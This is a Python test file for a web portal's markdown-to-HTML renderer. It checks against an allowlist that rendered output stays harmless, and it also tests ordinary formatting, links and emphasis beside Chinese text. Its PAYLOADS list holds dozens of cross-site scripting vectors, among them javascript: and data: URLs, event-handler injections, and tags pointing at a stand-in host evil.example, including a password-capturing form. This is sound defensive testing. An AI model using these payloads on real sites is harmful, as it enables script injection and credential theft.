"""Markdown becomes harmless HTML, whatever somebody writes (safety s22)."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html

from portal.web.markdown import rendered

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x](x"onerror="alert(1))',
    '[x](/a"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<object data=//evil.example></object>",
    "<link rel=stylesheet href=//evil.example>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
]
_HARMLESS = {
    "p", "br", "h2", "h3", "h4", "ul", "ol", "li", "strong", "em", "s", "code", "pre", "blockquote", "hr",
    "table", "thead", "tbody", "tr", "th", "td", "a", "img", "div",
}  # fmt: skip


def _assert_harmless(source: str) -> None:
    if not source.strip():
        return
    tree = html.fragment_fromstring(source, create_parent="div")
    for element in tree.iter():
        assert element.tag in _HARMLESS, element.tag
        assert set(element.attrib) <= {"href", "src", "alt", "rel"}, element.attrib
        for name in ("href", "src"):
            address = element.get(name, "").strip().lower()
            scheme = address.partition(":")[0] if ":" in address.partition("/")[0] else ""
            assert scheme in ("", "http", "https", "mailto"), address


@pytest.mark.safety("s22")
@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_comes_out_harmless(payload: str) -> None:
    _assert_harmless(str(rendered(payload)))
    _assert_harmless(str(rendered(f"# Title\n\n- {payload}\n\n> {payload}")))


_PIECES = st.sampled_from([*"[]()<>!`*_#|\"'&:;/\\\n ", "javascript:", "<script>", "onerror=", "http://", "x", "&#58;"])


@given(st.lists(_PIECES, max_size=40).map("".join))
def test_any_mixture_comes_out_harmless(text: str) -> None:
    _assert_harmless(str(rendered(text)))


def test_ordinary_text_keeps_its_form() -> None:
    text = "# Titel\n\nA **strong** and *soft* word, ~~gone~~.\n\n1. one\n2. two\n\n| a | b |\n| - | - |\n| 1 | 2 |"
    made = str(rendered(text))
    for piece in ("<h2>Titel</h2>", "<strong>strong</strong>", "<em>soft</em>", "<s>gone</s>", "<ol>", "<td>2</td>"):
        assert piece in made


def test_links_to_own_pages_and_mail_are_kept() -> None:
    made = str(rendered("[own](/courses/3) [out](https://bank.example/x) [mail](mailto:a@b.example)"))
    for address in ("/courses/3", "https://bank.example/x", "mailto:a@b.example"):
        assert f'href="{address}"' in made


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("写“已约定”？**不要。**写“日期”", "写“已约定”？<strong>不要。</strong>写“日期”"),
        ("他说**“不要”**然后", "他说<strong>“不要”</strong>然后"),
        ("第一条**（重要）**内容", "第一条<strong>（重要）</strong>内容"),
        ("字*（斜）*字", "字<em>（斜）</em>字"),
        ("字** 空**字", "字** 空**字"),
        ("2 * 3 * 4", "2 * 3 * 4"),
        ("**a**b", "<strong>a</strong>b"),
        ("**a.**b", "**a.**b"),
    ],
)
def test_stars_beside_chinese_need_no_space(text: str, shown: str) -> None:
    assert rendered(text).strip() == f"<p>{shown}</p>"
